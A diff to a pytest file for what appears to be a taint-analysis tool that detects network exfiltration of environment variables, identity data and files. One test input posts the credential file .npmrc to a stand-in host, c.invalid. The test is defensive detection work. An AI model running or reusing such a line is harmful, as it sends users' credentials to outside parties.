@@ -250,13 +250,15 @@ SENT = {
 
 @pytest.mark.parametrize("source", SENT.values(), ids=SENT.keys())
 def test_the_environment_that_is_sent_is_a_flow(source: str) -> None:
-    assert any(sink is NETWORK and Taint.ENVIRONMENT in taints for sink, _, taints in flows(source))
+    assert any(
+        sink is NETWORK and {Taint.ENVIRONMENT, Taint.IDENTITY} & taints for sink, _, taints in flows(source)
+    )
 
 
 def test_a_file_that_is_sent_is_a_flow() -> None:
     source = "import requests\nrequests.post('https://c.invalid', files={'f': open('.npmrc', 'rb')})"
 
-    assert [(NETWORK, "requests.post", {Taint.FILE})] == flows(source)
+    assert [(NETWORK, "requests.post", {Taint.FILE, Taint.SECRETS})] == flows(source)
 
 
 ORDINARY = {
